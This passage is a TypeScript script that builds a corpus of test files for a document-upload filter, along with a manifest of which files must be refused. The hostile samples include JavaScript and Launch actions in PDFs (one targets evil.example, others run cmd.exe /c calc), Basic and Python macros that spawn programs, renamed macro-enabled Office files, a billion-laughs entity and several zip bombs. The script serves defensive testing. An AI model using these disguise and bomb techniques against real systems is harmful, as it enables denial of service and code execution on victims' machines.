/**
 * Builds the hostile corpus: small files that try to get past the upload checks (and sound ones that
 * must not be refused), written to test/hostile/files/ with a manifest of what each must come to.
 *
 *   npx tsx test/hostile/build.ts
 *
 * Everything is made here from strings, fflate and sharp, so the corpus is reproducible and reviewable:
 * the same script always writes the same bytes. Each file is under 200 KB; the bombs are small files
 * that inflate hugely. Entries marked `needs` are refused only by the upload adapter's parsers (pdf.js,
 * sharp), not by the byte-level checks in src/domain/files.
 */
import fs from 'node:fs'
import path from 'node:path'
import { deflateSync, strToU8, zipSync, zlibSync, type Zippable } from 'fflate'
import sharp from 'sharp'
import { concat, le16, le32, ole2Of } from '../../src/domain/files/fixtures'

const HERE = import.meta.dirname
const OUT = path.join(HERE, 'files')
const MB = 1024 * 1024
const MAX_FILE = 200 * 1024

export interface ManifestEntry {
  file: string
  claimedName: string
  expect: 'refused' | 'accepted'
  /** The AttachmentProblem code when refused; null when accepted */
  code: string | null
  /** Which parser refuses it, when the byte-level checks cannot: 'pdfjs' or 'decode' (sharp) */
  needs?: 'pdfjs' | 'decode'
  /** The name checkAttachment stores, where the name is the point */
  safeName?: string
  note: string
}

const manifest: ManifestEntry[] = []
const written = new Map<string, Uint8Array>()

function add(entry: Omit<ManifestEntry, 'code'> & { code?: string | null }, bytes: Uint8Array) {
  if (written.has(entry.file)) throw new Error(`duplicate ${entry.file}`)
  if (bytes.length > MAX_FILE) throw new Error(`${entry.file} is ${bytes.length} bytes, over ${MAX_FILE}`)
  written.set(entry.file, bytes)
  const { file, claimedName, expect, code = null, needs, safeName, note } = entry
  manifest.push({ file, claimedName, expect, code, ...(needs && { needs }), ...(safeName && { safeName }), note })
}
const refused = (file: string, claimedName: string, code: string, note: string, bytes: Uint8Array, extra: Partial<ManifestEntry> = {}) =>
  add({ file, claimedName, expect: 'refused', code, note, ...extra }, bytes)
const accepted = (file: string, claimedName: string, note: string, bytes: Uint8Array, extra: Partial<ManifestEntry> = {}) =>
  add({ file, claimedName, expect: 'accepted', note, ...extra }, bytes)

const text = (s: string) => strToU8(s)
const latin = (s: string) => Uint8Array.from(s, (c) => c.charCodeAt(0) & 0xff)
const latin1Of = (bytes: Uint8Array) => String.fromCharCode(...bytes)
const zeros = (n: number) => new Uint8Array(n)
const MTIME = new Date('2025-01-01T00:00:00Z') // fixed, so every build writes the same bytes
const zip = (files: Zippable) => zipSync(files, { mtime: MTIME })

// ---------------------------------------------------------------- CRC-32 and a ZIP writer that can lie

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
function crc32(data: Uint8Array): number {
  let c = 0xffffffff
  for (const byte of data) c = CRC_TABLE[(c ^ byte) & 0xff] ^ (c >>> 8)
  return (c ^ 0xffffffff) >>> 0
}

interface RawEntry {
  name: string | Uint8Array
  /** The bytes as they are stored (already deflated for method 8) */
  stored: Uint8Array
  method?: number
  crc?: number
  uncompressedSize?: number
  compressedSize?: number
  flags?: number
  extra?: Uint8Array
  /** Where the directory says the local header is (default: where it is) */
  localOffset?: number
  /** Write no local header or data: the directory entry points at another's */
  directoryOnly?: boolean
}

/** A ZIP written field by field, so that each hostile archive says exactly what it wants to say. */
function rawZip(entries: RawEntry[]): Uint8Array {
  const locals: Uint8Array[] = []
  const directory: Uint8Array[] = []
  let offset = 0
  for (const entry of entries) {
    const name = typeof entry.name === 'string' ? text(entry.name) : entry.name
    const method = entry.method ?? 0
    const flags = (entry.flags ?? 0) | (typeof entry.name === 'string' ? 0x800 : 0)
    const compressedSize = entry.compressedSize ?? entry.stored.length
    const uncompressedSize = entry.uncompressedSize ?? entry.stored.length
    const crc = entry.crc ?? (method === 0 ? crc32(entry.stored) : 0)
    const extra = entry.extra ?? new Uint8Array()
    const fields = concat(le16(20), le16(flags), le16(method), le16(0), le16(0x5a21), le32(crc), le32(compressedSize), le32(uncompressedSize), le16(name.length), le16(extra.length))
    const at = entry.localOffset ?? offset
    if (!entry.directoryOnly) {
      const local = concat([0x50, 0x4b, 0x03, 0x04], fields, name, extra, entry.stored)
      locals.push(local)
      offset += local.length
    }
    directory.push(concat([0x50, 0x4b, 0x01, 0x02], le16(0x031e), fields, le16(0), le16(0), le16(0), le32(0), le32(at), name, extra))
  }
  const directorySize = directory.reduce((n, d) => n + d.length, 0)
  const end = concat([0x50, 0x4b, 0x05, 0x06], le16(0), le16(0), le16(entries.length), le16(entries.length), le32(directorySize), le32(offset), le16(0))
  return concat(...locals, ...directory, end)
}

const deflated = (name: string, data: Uint8Array, over: Partial<RawEntry> = {}): RawEntry => ({
  name,
  stored: deflateSync(data, { level: 9 }),
  method: 8,
  crc: crc32(data),
  uncompressedSize: data.length,
  ...over,
})

// ---------------------------------------------------------------- PDF

type Part = string | Uint8Array
const bytesOf = (part: Part) => (typeof part === 'string' ? latin(part) : part)

/** A PDF with a correct cross-reference table: object i + 1 is bodies[i]. */
function pdfOf(bodies: Part[][], options: { version?: string; trailer?: string } = {}): Uint8Array {
  const parts: Uint8Array[] = [latin(`%PDF-${options.version ?? '1.7'}\n%\xe2\xe3\xcf\xd3\n`)]
  let length = parts[0].length
  const offsets: number[] = []
  bodies.forEach((body, i) => {
    offsets.push(length)
    const object = concat(latin(`${i + 1} 0 obj\n`), ...body.map(bytesOf), latin('\nendobj\n'))
    parts.push(object)
    length += object.length
  })
  const xrefAt = length
  let xref = `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`
  for (const offset of offsets) xref += `${String(offset).padStart(10, '0')} 00000 n \n`
  parts.push(latin(`${xref}trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R ${options.trailer ?? ''}>>\nstartxref\n${xrefAt}\n%%EOF\n`))
  return concat(...parts)
}

const stream = (dictionary: string, data: Uint8Array): Part[] => [`<< ${dictionary} /Length ${data.length} >>\nstream\n`, data, '\nendstream']
const CONTENT = stream('', latin('BT /F1 24 Tf 72 760 Td (Khaosan) Tj ET'))
const FONT = ['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>']

/** Catalog (1), pages (2), one page (3) with its content (4) and font (5), then `more` as objects 6, 7, … */
function simplePdf(catalogExtra = '', pageExtra = '', more: Part[][] = [], content = CONTENT): Uint8Array {
  return pdfOf([
    [`<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`],
    ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
    [`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${pageExtra}>>`],
    content,
    FONT,
    ...more,
  ])
}

/** PDF 1.5 with the catalog, pages and page inside a compressed object stream, found through an xref stream. */
function objectStreamPdf(catalogExtra: string): Uint8Array {
  const inside = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
  ]
  let body = ''
  const index: string[] = []
  inside.forEach((object, i) => {
    index.push(`${i + 1} ${body.length}`)
    body += `${object}\n`
  })
  const header = `${index.join(' ')}\n`
  const objectStream = zlibSync(latin(header + body))
  const parts: Uint8Array[] = [latin('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n')]
  let length = parts[0].length
  const offsets: Record<number, number> = {}
  const object = (n: number, content: Part[]) => {
    offsets[n] = length
    const bytes = concat(latin(`${n} 0 obj\n`), ...content.map(bytesOf), latin('\nendobj\n'))
    parts.push(bytes)
    length += bytes.length
  }
  object(4, CONTENT)
  object(5, FONT)
  object(6, stream(`/Type /ObjStm /N 3 /First ${header.length} /Filter /FlateDecode`, objectStream))
  offsets[7] = length
  const row = (type: number, field: number, index: number) => concat([type], [(field >>> 24) & 0xff, (field >>> 16) & 0xff, (field >>> 8) & 0xff, field & 0xff], [index >> 8, index & 0xff])
  const rows = concat(
    row(0, 0, 65535),
    row(2, 6, 0),
    row(2, 6, 1),
    row(2, 6, 2),
    row(1, offsets[4], 0),
    row(1, offsets[5], 0),
    row(1, offsets[6], 0),
    row(1, offsets[7], 0),
  )
  object(7, stream('/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R', rows))
  parts.push(latin(`startxref\n${offsets[7]}\n%%EOF\n`))
  return concat(...parts)
}

// ---------------------------------------------------------------- Office Open XML and OpenDocument

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
const CT = 'http://schemas.openxmlformats.org/package/2006/content-types'
const REL = 'http://schemas.openxmlformats.org/package/2006/relationships'
const OFFICE_REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

function docx(options: { mainType?: string; extraTypes?: string; extraParts?: Zippable; documentRels?: string; body?: string } = {}): Uint8Array {
  const mainType = options.mainType ?? 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
  return zip({
    '[Content_Types].xml': text(
      `${XML}<Types xmlns="${CT}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${options.extraTypes ?? ''}<Override PartName="/word/document.xml" ContentType="${mainType}"/></Types>`,
    ),
    '_rels/.rels': text(`${XML}<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${OFFICE_REL}/officeDocument" Target="word/document.xml"/></Relationships>`),
    'word/document.xml': text(
      options.body ??
        `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>ประกาศ เรื่อง ราคากลางงานจ้างก่อสร้าง</w:t></w:r></w:p></w:body></w:document>`,
    ),
    'word/_rels/document.xml.rels': text(`${XML}<Relationships xmlns="${REL}">${options.documentRels ?? ''}</Relationships>`),
    ...options.extraParts,
  })
}

function xlsx(options: { workbookType?: string; extraTypes?: string; extraParts?: Zippable; workbookRels?: string } = {}): Uint8Array {
  const workbookType = options.workbookType ?? 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
  return zip({
    '[Content_Types].xml': text(
      `${XML}<Types xmlns="${CT}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${options.extraTypes ?? ''}<Override PartName="/xl/workbook.xml" ContentType="${workbookType}"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    ),
    '_rels/.rels': text(`${XML}<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${OFFICE_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
    'xl/workbook.xml': text(
      `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE_REL}"><sheets><sheet name="งบประมาณ" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': text(
      `${XML}<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${OFFICE_REL}/worksheet" Target="worksheets/sheet1.xml"/>${options.workbookRels ?? ''}</Relationships>`,
    ),
    'xl/worksheets/sheet1.xml': text(
      `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>รายการ</t></is></c><c r="B1"><v>1500</v></c></row></sheetData></worksheet>`,
    ),
    ...options.extraParts,
  })
}

function openDocument(mimetype: string, extraParts: Zippable = {}, content?: string): Uint8Array {
  const office = 'urn:oasis:names:tc:opendocument:xmlns:office:1.0'
  return zip({
    mimetype: [text(mimetype), { level: 0 }],
    'content.xml': text(
      content ??
        `${XML}<office:document-content xmlns:office="${office}" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3"><office:body><office:text><text:p>ประกาศ</text:p></office:text></office:body></office:document-content>`,
    ),
    'META-INF/manifest.xml': text(
      `${XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
    ),
    ...extraParts,
  })
}
const ODT = 'application/vnd.oasis.opendocument.text'
const ODS = 'application/vnd.oasis.opendocument.spreadsheet'
/** What LibreOffice keeps in Basic/ for a document without macros: the library containers, no modules. */
const EMPTY_BASIC: Zippable = {
  'Basic/script-lc.xml': text(
    `${XML}<!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd">\n<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" xlink:href="Standard/script-xlb.xml/" xlink:type="simple" library:link="false"/></library:libraries>`,
  ),
  'Basic/Standard/script-lb.xml': text(
    `${XML}<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"/>`,
  ),
}

// ---------------------------------------------------------------- OLE2 (Office 97–2003)

const utf16 = (s: string) => concat(...[...s].map((c) => le16(c.charCodeAt(0))))
/** A Word 97 document as far as a directory shows it: WordDocument, 1Table, CompObj, SummaryInformation. */
const WORD_STREAMS = [
  { name: 'WordDocument', type: 'stream' as const, data: concat([0xec, 0xa5, 0xc1, 0x00], zeros(4092)) },
  { name: '1Table', type: 'stream' as const, data: zeros(512) },
  { name: '\x01CompObj', type: 'stream' as const, data: concat(zeros(28), utf16('Microsoft Word 97-2003')) },
  { name: '\x05SummaryInformation', type: 'stream' as const, data: zeros(256) },
]
/** A BIFF8 workbook stream: BOF, one BoundSheet8 of the given sheet type, EOF. */
function workbookStream(sheetType: number): Uint8Array {
  const record = (type: number, data: Uint8Array | number[]) => concat(le16(type), le16(data.length), data)
  const name = text('Sheet1')
  return concat(
    record(0x0809, concat(le16(0x0600), le16(0x0005), zeros(12))),
    record(0x0085, concat(le32(0), [0x00, sheetType], [name.length, 0], name)),
    record(0x000a, []),
    zeros(64),
  )
}

// ---------------------------------------------------------------- programs and shortcuts

function windowsProgram(): Uint8Array {
  const dos = zeros(0x80)
  dos.set(latin('MZ'), 0)
  dos.set(le16(0x90), 2)
  dos.set(le16(3), 4)
  dos.set(le32(0x80), 0x3c)
  dos.set(latin('This program cannot be run in DOS mode.\r\r\n$'), 0x4e)
  const pe = concat(latin('PE\0\0'), le16(0x14c), le16(1), zeros(12), le16(0xe0), le16(0x102), zeros(0xe0))
  return concat(dos, pe, zeros(512))
}
const linuxProgram = () => concat([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00], zeros(8), le16(2), le16(0x3e), le32(1), zeros(44))
const windowsShortcut = () => concat(le32(0x4c), [0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46], zeros(56))

// ---------------------------------------------------------------- text and maps

/** Thai in TIS-620: U+0E01…U+0E5B are the bytes 0xA1…0xFB. */
const tis620 = (s: string) => Uint8Array.from(s, (c) => (c.charCodeAt(0) >= 0x0e01 && c.charCodeAt(0) <= 0x0e5b ? c.charCodeAt(0) - 0x0e00 + 0xa0 : c.charCodeAt(0)))
const CSV = 'ลำดับ,รายการ,จำนวนเงิน (บาท)\r\n1,ค่าวัสดุสำนักงาน,"1,500.00"\r\n2,ค่าซ่อมแซมถนน,"250,000.00"\r\n'
const KML = `<?xml version="1.0" encoding="UTF-8"?>
<kml xmlns="http://www.opengis.net/kml/2.2">
  <Document>
    <name>จุดบริการประชาชน</name>
    <Placemark>
      <name>สำนักงานเทศบาล</name>
      <description><![CDATA[<b>เปิดทำการ</b> จันทร์–ศุกร์ 08:30–16:30]]></description>
      <Point><coordinates>100.5018,13.7563,0</coordinates></Point>
    </Placemark>
  </Document>
</kml>
`

function shapefile(): Zippable {
  const be32 = (n: number) => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff]
  const header = (lengthWords: number) => concat(be32(9994), zeros(20), be32(lengthWords), le32(1000), le32(1), zeros(64))
  const point = new Uint8Array(new Float64Array([100.5018, 13.7563]).buffer)
  const record = concat(be32(1), be32(10), le32(1), point)
  const shp = concat(header((100 + record.length) / 2), record)
  const shx = concat(header((100 + 8) / 2), be32(50), be32(10))
  const dbf = concat([0x03, 125, 1, 1], le32(1), le16(33 + 32 + 1), le16(1 + 20), zeros(20), latin('NAME'), zeros(7), latin('C'), zeros(4), [20], zeros(15), [0x0d], latin(' '), latin('Office'.padEnd(20)), [0x1a])
  return {
    'แปลงที่ดิน.shp': shp,
    'แปลงที่ดิน.shx': shx,
    'แปลงที่ดิน.dbf': dbf,
    'แปลงที่ดิน.prj': text('GEOGCS["GCS_WGS_1984",DATUM["D_WGS_1984",SPHEROID["WGS_1984",6378137,298.257223563]],PRIMEM["Greenwich",0],UNIT["Degree",0.017453292519943295]]'),
  }
}

// ================================================================ the corpus

async function build() {
  // ---------------------------------------------------------------- PDF
  const sound = simplePdf()
  accepted('pdf-valid.pdf', 'ประกาศ.pdf', 'A sound one-page PDF', sound)
  refused('pdf-truncated.pdf', 'ประกาศ.pdf', 'broken', 'Cut short after 60% of its bytes: no %%EOF', sound.subarray(0, Math.floor(sound.length * 0.6)))
  refused('pdf-openaction-js.pdf', 'ประกาศ.pdf', 'active-content', '/OpenAction runs JavaScript', simplePdf("/OpenAction << /S /JavaScript /JS (app.alert\\('Khaosan'\\)) >> "))
  refused(
    'pdf-page-aa-js.pdf',
    'ประกาศ.pdf',
    'active-content',
    "A page's additional action (/AA) runs JavaScript kept in a stream",
    simplePdf('', '/AA << /O << /S /JavaScript /JS 6 0 R >> >> ', [stream('', latin('app.launchURL("https://evil.example/", true);'))]),
  )
  refused('pdf-js-name-escaped.pdf', 'ประกาศ.pdf', 'active-content', 'JavaScript with #xx-escaped names: /S /J#61vaScript /J#53', simplePdf('/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> '))
  refused('pdf-launch.pdf', 'ประกาศ.pdf', 'active-content', '/OpenAction launches cmd.exe', simplePdf('/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> '))
  refused(
    'pdf-names-javascript.pdf',
    'ประกาศ.pdf',
    'active-content',
    'Document-level JavaScript in the /Names tree',
    simplePdf('/Names << /JavaScript << /Names [(init) 6 0 R] >> >> ', '', [['<< /S /JavaScript /JS (this.print\\(\\)) >>']]),
  )
  refused(
    'pdf-js-after-open-string.pdf',
    'ประกาศ.pdf',
    'active-content',
    'An unreferenced object opens a string that never closes, to hide the JavaScript object after it from a naive scanner',
    simplePdf('/OpenAction 7 0 R ', '', [['<< /Junk (never closed >>'], ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>']]),
  )
  accepted('pdf-openaction-view.pdf', 'ประกาศ.pdf', '/OpenAction only sets the view (first page, fit width)', simplePdf('/OpenAction [3 0 R /FitH 842] /PageMode /UseOutlines '))
  accepted(
    'pdf-link-about-javascript.pdf',
    'คู่มือ.pdf',
    'A link to a web page whose address contains /JavaScript and /Launch: strings are not names',
    simplePdf('', '/Annots [6 0 R] ', [['<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://developer.mozilla.org/en-US/docs/Web/JavaScript/Launch) >> >>']]),
  )
  accepted(
    'pdf-white-spam.pdf',
    'ประกาศ.pdf',
    'Sound, with gambling words drawn white on the white page: accepted at upload, held at publication by the hidden-text check (hostile.test.ts)',
    simplePdf('', '', [], stream('', latin('BT /F1 24 Tf 72 760 Td (Khaosan) Tj 1 1 1 rg 0 -30 Td (UFABET slot) Tj ET'))),
  )
  refused('pdf-objstm-js.pdf', 'ประกาศ.pdf', 'active-content', 'PDF 1.5: the catalog with its JavaScript /OpenAction is inside a Flate-compressed object stream', objectStreamPdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> '))
  accepted('pdf-objstm-clean.pdf', 'ประกาศ.pdf', 'PDF 1.5 with an object stream and an xref stream, nothing active', objectStreamPdf(''))
  {
    // pdf.js rebuilds a damaged cross-reference table by scanning for objects, as every reader does, so a
    // wrong xref alone opens fine (accepted). What it cannot rebuild is a file whose objects are cut off too.
    const wrongOffsets = latin1Of(sound).replace(/(\d{10}) 00000 n/g, (_, offset: string) => `${String(Number(offset) + 7).padStart(10, '0')} 00000 n`)
    accepted('pdf-xref-offsets-wrong.pdf', 'ประกาศ.pdf', 'Every xref offset 7 bytes off: readers (pdf.js too) rebuild the table', latin(wrongOffsets))
    const cut = latin1Of(sound).slice(0, latin1Of(sound).indexOf('/Kids'))
    refused(
      'pdf-broken-xref.pdf',
      'ประกาศ.pdf',
      'broken',
      'Objects cut off in the page tree (no /Kids), then a garbage xref table, trailer, startxref and %%EOF: the bytes end as a PDF ends, only pdf.js sees it cannot be rebuilt',
      latin(`${cut}\nxref\n0 6\n0000000000 65535 f \nzzzzzzzzzz 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n${cut.length + 1}\n%%EOF\n`),
      { needs: 'pdfjs' },
    )
  }

  // ---------------------------------------------------------------- Office Open XML
  const vbaProject = ole2Of([
    { name: 'VBA', type: 'storage' },
    { name: '_VBA_PROJECT', type: 'stream', data: zeros(7) },
    { name: 'PROJECT', type: 'stream', data: text('ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n') },
  ])
  accepted('docx-valid.docx', 'คำสั่ง.docx', 'A minimal sound DOCX', docx())
  accepted(
    'docx-svg-picture.docx',
    'คำสั่ง.docx',
    'A DOCX with an SVG picture in word/media, as Office 365 stores icons: Office renders it, no browser does',
    docx({ extraTypes: '<Default Extension="svg" ContentType="image/svg+xml"/>', extraParts: { 'word/media/image1.svg': text('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle r="5"/></svg>') } }),
  )
  refused(
    'docx-vbaproject.docx',
    'คำสั่ง.docx',
    'active-content',
    'A DOCX carrying word/vbaProject.bin (the content type of the main part left as a plain document)',
    docx({
      extraParts: { 'word/vbaProject.bin': vbaProject },
      documentRels: '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
    }),
  )
  refused('docm-renamed.docx', 'คำสั่ง.docx', 'active-content', 'A .docm (macro-enabled main content type) renamed .docx', docx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }))
  refused(
    'docx-activex.docx',
    'คำสั่ง.docx',
    'active-content',
    'A DOCX with an ActiveX control (word/activeX/activeX1.xml)',
    docx({ extraParts: { 'word/activeX/activeX1.xml': text(`${XML}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>`) } }),
  )
  refused(
    'docx-doctype.docx',
    'คำสั่ง.docx',
    'dangerous',
    'word/document.xml declares a DOCTYPE with an entity (billion laughs against whatever extracts its text)',
    docx({ body: `${XML}<!DOCTYPE w:document [<!ENTITY a "ฮ่าฮ่าฮ่าฮ่า"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>` }),
  )
  accepted('xlsx-valid.xlsx', 'งบประมาณ.xlsx', 'A minimal sound XLSX', xlsx())
  refused(
    'xlsx-macro.xlsx',
    'งบประมาณ.xlsx',
    'active-content',
    'An .xlsm renamed .xlsx: macro-enabled workbook type and xl/vbaProject.bin',
    xlsx({
      workbookType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
      extraTypes: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      extraParts: { 'xl/vbaProject.bin': vbaProject },
      workbookRels: '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
    }),
  )
  refused(
    'xlsx-macrosheet.xlsx',
    'งบประมาณ.xlsx',
    'active-content',
    'An XLSX with an Excel 4.0 macro sheet (xl/macrosheets/)',
    xlsx({ extraParts: { 'xl/macrosheets/sheet2.xml': text(`${XML}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>`) } }),
  )

  // ---------------------------------------------------------------- OpenDocument
  accepted('odt-valid.odt', 'รายงาน.odt', 'A sound ODT with the empty Basic library containers LibreOffice writes', openDocument(ODT, EMPTY_BASIC))
  accepted('ods-valid.ods', 'ตาราง.ods', 'A minimal sound ODS', openDocument(ODS))
  refused(
    'odt-basic-macro.odt',
    'รายงาน.odt',
    'active-content',
    'An ODT with a Basic module (Basic/Standard/Module1.xml)',
    openDocument(ODT, {
      ...EMPTY_BASIC,
      'Basic/Standard/Module1.xml': text(
        `${XML}<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\n  Shell("cmd.exe /c calc")\nEnd Sub</script:module>`,
      ),
    }),
  )
  refused('ods-python-script.ods', 'ตาราง.ods', 'active-content', 'An ODS with a Python script (Scripts/python/)', openDocument(ODS, { 'Scripts/python/run.py': text('import os\nos.system("calc")\n') }))

  // ---------------------------------------------------------------- Office 97–2003 (OLE2)
  accepted('doc-valid.doc', 'คำสั่ง.doc', 'A Word 97–2003 compound file without macros', ole2Of(WORD_STREAMS))
  refused(
    'doc-vba.doc',
    'คำสั่ง.doc',
    'active-content',
    'A Word 97–2003 file with a VBA project (Macros/VBA/_VBA_PROJECT)',
    ole2Of([...WORD_STREAMS, { name: 'Macros', type: 'storage' }, { name: 'VBA', type: 'storage' }, { name: '_VBA_PROJECT', type: 'stream', data: zeros(7) }]),
  )
  accepted('xls-valid.xls', 'งบประมาณ.xls', 'An Excel 97–2003 workbook (BIFF8 stream in the mini stream) without macros', ole2Of([{ name: 'Workbook', type: 'stream', data: workbookStream(0) }]))
  refused(
    'xls-vba.xls',
    'งบประมาณ.xls',
    'active-content',
    'An Excel 97–2003 workbook with _VBA_PROJECT_CUR',
    ole2Of([{ name: 'Workbook', type: 'stream', data: workbookStream(0) }, { name: '_VBA_PROJECT_CUR', type: 'storage' }, { name: 'VBA', type: 'storage' }]),
  )
  refused('xls-xlm-macrosheet.xls', 'งบประมาณ.xls', 'active-content', 'An Excel 97–2003 workbook whose BoundSheet8 record names an Excel 4.0 macro sheet', ole2Of([{ name: 'Workbook', type: 'stream', data: workbookStream(1) }]))
  refused(
    'msi-as-doc.doc',
    'คำสั่ง.doc',
    'dangerous',
    'A Windows Installer package (root CLSID 000C1084-…) renamed .doc',
    ole2Of([{ name: '\u4840\u3f3f\u4577\u446c', type: 'stream', data: zeros(64) }], [0x84, 0x10, 0x0c, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46]),
  )
  refused(
    'office-encrypted.doc',
    'คำสั่ง.doc',
    'unsupported',
    'A password-protected Office file (EncryptionInfo + EncryptedPackage): its macros cannot be seen',
    ole2Of([{ name: 'EncryptionInfo', type: 'stream', data: zeros(200) }, { name: 'EncryptedPackage', type: 'stream', data: zeros(5000) }]),
  )
  refused('doc-broken.doc', 'คำสั่ง.doc', 'broken', 'An OLE2 signature followed by garbage', concat([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], latin('x'.repeat(1000))))

  // ---------------------------------------------------------------- archives
  accepted('zip-valid.zip', 'เอกสารประกอบ.zip', 'A ZIP of a PDF, a CSV and a folder, Thai names', zip({ 'รายงาน/': new Uint8Array(), 'รายงาน/ผลการดำเนินงาน.pdf': sound, 'ข้อมูล.csv': text(CSV) }))
  refused('zip-bomb-ratio.zip', 'เอกสาร.zip', 'archive', '10 MB of zeros in one entry: ratio about 1,000', zip({ 'ข้อมูล.txt': [zeros(10 * MB), { level: 9 }] }))
  {
    const inner = zip(Object.fromEntries(Array.from({ length: 8 }, (_, i) => [`zeros-${i}.bin`, [zeros(8 * MB), { level: 9 }]])) as Zippable)
    const outer = zip(Object.fromEntries(Array.from({ length: 8 }, (_, i) => [`ชุดที่-${i + 1}.zip`, [inner, { level: 9 }]])) as Zippable)
    refused('zip-bomb-512mb.zip', 'เอกสาร.zip', 'archive', 'Nested zips of zeros: 8 zips of 8 entries of 8 MB, 512 MB in all', outer)
  }
  refused(
    'zip-bomb-lying-size.zip',
    'เอกสาร.zip',
    'archive',
    'The directory says 5,000 bytes; the data inflates to 10 MB (counted while inflating, never trusted)',
    rawZip([deflated('ข้อมูล.txt', zeros(10 * MB), { uncompressedSize: 5000 })]),
  )
  {
    const data = deflateSync(zeros(3 * MB), { level: 9 })
    const entry = { name: 'a.txt', stored: data, method: 8, crc: crc32(zeros(3 * MB)), uncompressedSize: 3 * MB }
    refused(
      'zip-overlapping.zip',
      'เอกสาร.zip',
      'archive',
      'Three directory entries pointing at the same local header and data (the overlapping-file bomb)',
      rawZip([entry, { ...entry, directoryOnly: true, localOffset: 0 }, { ...entry, directoryOnly: true, localOffset: 0 }]),
    )
  }
  {
    const depth3 = zip({ 'ชั้น1.zip': zip({ 'ชั้น2.zip': zip({ 'ชั้น3.zip': zip({ 'ประกาศ.txt': text('ลึกเกินไป') }) }) }) })
    refused('zip-nested-depth3.zip', 'เอกสาร.zip', 'archive', 'A zip in a zip in a zip in the upload: three archives below it', depth3)
    accepted('zip-nested-depth2.zip', 'เอกสาร.zip', 'A zip holding a zip: two levels, allowed', zip({ 'ภาคผนวก.zip': zip({ 'ประกาศ.txt': text('สองชั้น') }) }))
  }
